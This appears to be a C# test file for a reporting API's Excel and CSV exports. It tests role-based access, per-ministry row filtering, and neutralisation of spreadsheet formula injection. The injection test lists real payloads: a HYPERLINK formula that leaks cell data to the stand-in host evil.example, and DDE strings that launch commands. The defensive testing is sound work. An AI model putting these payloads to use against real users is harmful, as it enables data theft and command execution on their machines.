using System.Net;
using Infocentre.Api.Features.Exports;
using Infocentre.Api.Tests.Infrastructure;
using Infocentre.Api.Tests.Reports.Support;
using Infocentre.TestSupport;
using Infocentre.Warehouse;

namespace Infocentre.Api.Tests.Exports;

/// <summary>Who may export, what they see (their perimeter), and hostile texts in the data.</summary>
[Collection(TinyWarehouseCollection.Name)]
public sealed class ExportAccessTests(TinyWarehouses warehouses)
{
    [Theory]
    [InlineData("export.xlsx")]
    [InlineData("export.csv")]
    public async Task Exports_need_the_exporter_role(string file)
    {
        var app = await SharedApps.GetAsync(warehouses, WarehouseProvider.Sqlite);
        using var reader = app.App.ClientWith(app.App.Token(roles: ["reader"], subject: "reader-only"));
        using var analyst = app.App.ClientWith(app.App.Token(roles: ["analyst"], subject: "analyst"));
        using var exporter = app.App.ClientWith(app.App.Token(roles: ["exporter"], subject: "exporter"));
        using var anonymous = app.App.ClientWith(null);

        Assert.Equal(HttpStatusCode.OK, (await reader.DownloadAsync("/api/reports/INF-BUD-90/rows")).Status);
        Assert.Equal(HttpStatusCode.Forbidden, (await reader.DownloadAsync($"/api/reports/INF-BUD-90/{file}")).Status);
        Assert.Equal(HttpStatusCode.Unauthorized, (await anonymous.DownloadAsync($"/api/reports/INF-BUD-90/{file}")).Status);
        Assert.Equal(HttpStatusCode.OK, (await analyst.DownloadAsync($"/api/reports/INF-BUD-90/{file}")).Status);
        Assert.Equal(HttpStatusCode.OK, (await exporter.DownloadAsync($"/api/reports/INF-BUD-90/{file}")).Status);
    }

    [Fact]
    public async Task A_single_ministry_exporter_gets_the_rows_of_its_perimeter_only()
    {
        var app = await SharedApps.GetAsync(warehouses, WarehouseProvider.Sqlite);
        using var min09 = app.App.ClientWith(app.App.Token(roles: ["exporter"], ministeres: ["MIN09"], subject: "exporter-min09"));
        var columns = await ExportFiles.ColumnsAsync(app.Client, "INF-BUD-40");
        var all = await ExportFiles.RestRowsAsync(app.Client, "INF-BUD-40", "", columns);
        var expected = all.Where(r => r.Text("Ministere") == "MIN09").ToList();
        Assert.NotEmpty(expected);
        Assert.True(all.Count > expected.Count, "the tiny warehouse has other ministries");
        Rows.AssertSameSequence(expected, await ExportFiles.RestRowsAsync(min09, "INF-BUD-40", "", columns), "REST with the MIN09 token");

        var xlsx = await min09.DownloadOkAsync("/api/reports/INF-BUD-40/export.xlsx?totals=true");
        var csv = await min09.DownloadOkAsync("/api/reports/INF-BUD-40/export.csv?dialect=rfc4180");

        var sheets = ExportFiles.ReadXlsx(xlsx.Body);
        var (rows, totals) = ExportFiles.DataRows(sheets, columns, totals: true);
        Rows.AssertSameSequence(expected, rows, "xlsx of the MIN09 exporter");
        Assert.Contains("Périmètre : MIN09", sheets[0].Rows.Select(r => r[0] as string));
        var paye = columns.FindIndex(c => c.Name == "Paye");
        Assert.Equal(expected.Sum(r => r.Number("Paye")!.Value), (decimal)(double)totals![paye]!, 2);
        Rows.AssertSameSequence(expected, ExportFiles.CsvRows(ExportFiles.ReadCsv(csv.Body, ','), columns, french: false), "CSV of the MIN09 exporter");
    }

    [Fact]
    public async Task Hostile_texts_stay_text_in_xlsx_and_are_neutralised_in_csv()
    {
        string[] hostile =
        [
            // French Excel separates arguments with ';': the separator and quotes of the CSV inside the text.
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Cliquez ici, vite\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\n=1+1",
        ];
        await using var warehouse = await ExportWarehouse.CopyOfTinyAsync(warehouses);
        var cases = string.Join(" ", hostile.Select((h, i) => $"WHEN {i} THEN {SqlLiteral(h)}"));
        // The tiers of the two reports (latest exercice) get the hostile names in turn, so that every one is exported;
        // the other tiers get one by their row number.
        const string Suppliers = """
            SELECT tiers_code FROM v_execution_budgetaire WHERE tiers_code IS NOT NULL AND exercice = (SELECT MAX(exercice) FROM v_execution_budgetaire)
            UNION SELECT tiers_code FROM v_versement_subvention WHERE exercice = (SELECT MAX(exercice) FROM v_versement_subvention)
            """;
        Assert.True(await warehouse.ExecuteAsync($"""
            UPDATE dim_tiers SET raison_sociale = CASE
                (CASE WHEN code IN ({Suppliers})
                      THEN (SELECT COUNT(*) FROM dim_tiers t WHERE t.code < dim_tiers.code AND t.code IN ({Suppliers}))
                      ELSE rowid END) % {hostile.Length}
                {cases} END
            """) > 0);
        var (_, client) = await warehouse.StartAsync();
        var seen = new HashSet<string>(StringComparer.Ordinal);

        foreach (var (code, column) in new[] { ("INF-BUD-53", "FournisseurNom"), ("INF-SUB-01", "Beneficiaire") })
        {
            var columns = await ExportFiles.ColumnsAsync(client, code);
            var expected = await ExportFiles.RestRowsAsync(client, code, "", columns);
            var names = expected.Select(r => r.Text(column)).ToHashSet(StringComparer.Ordinal);
            Assert.True(hostile.Count(names.Contains) >= 4, $"{code}: hostile names reach the report ({string.Join(" | ", names)})");

            var xlsx = await client.DownloadOkAsync($"/api/reports/{code}/export.xlsx");
            var csv = await client.DownloadOkAsync($"/api/reports/{code}/export.csv");

            // xlsx: the very same texts, as text cells; not one formula anywhere in the data sheet.
            var (rows, _) = ExportFiles.DataRows(ExportFiles.ReadXlsx(xlsx.Body), columns);
            Rows.AssertSameSequence(expected.Select(r => WithCarriageReturnsAsRead(r, column)).ToList(), rows, $"{code} xlsx keeps the texts");
            var sheet = ExportFiles.Part(xlsx.Body, "xl/worksheets/sheet1.xml");
            Assert.DoesNotContain("<f>", sheet, StringComparison.Ordinal);
            Assert.DoesNotContain("<f ", sheet, StringComparison.Ordinal);

            // CSV: every such text starts with an apostrophe and is quoted.
            var records = ExportFiles.ReadCsv(csv.Body, ';');
            var index = columns.FindIndex(c => c.Name == column);
            var written = records.Skip(1).Select(r => r[index]).ToList();
            Assert.Equal(expected.Select(r => FormulaGuard.Neutralise(r.Text(column))), written);
            Assert.All(written.Where(w => hostile.Any(h => w == "'" + h)), w => Assert.StartsWith("'", w, StringComparison.Ordinal));
            foreach (var h in hostile.Where(names.Contains))
            {
                seen.Add(h);
                Assert.Contains("\"'" + h.Replace("\"", "\"\"", StringComparison.Ordinal) + "\"", csv.Text, StringComparison.Ordinal);
            }

            Assert.DoesNotContain(";=", csv.Text, StringComparison.Ordinal);
            Assert.DoesNotContain(";\"=", csv.Text, StringComparison.Ordinal);
        }

        Assert.Equal(hostile.Order(StringComparer.Ordinal), seen.Order(StringComparer.Ordinal));
    }

    /// <summary>XML readers turn a lone carriage return of a text into a line feed (XML end-of-line handling).</summary>
    private static Row WithCarriageReturnsAsRead(Row row, string column)
    {
        var copy = new Row(row);
        if (copy[column] is string text)
        {
            copy[column] = text.Replace("\r\n", "\n", StringComparison.Ordinal).Replace('\r', '\n');
        }

        return copy;
    }

    private static string SqlLiteral(string text)
    {
        var parts = text.Split(['\t', '\r', '\n']);
        var literal = "'" + text.Replace("'", "''", StringComparison.Ordinal) + "'";
        if (parts.Length == 1)
        {
            return literal;
        }

        return literal.Replace("\t", "' || char(9) || '", StringComparison.Ordinal)
            .Replace("\r", "' || char(13) || '", StringComparison.Ordinal)
            .Replace("\n", "' || char(10) || '", StringComparison.Ordinal);
    }
}
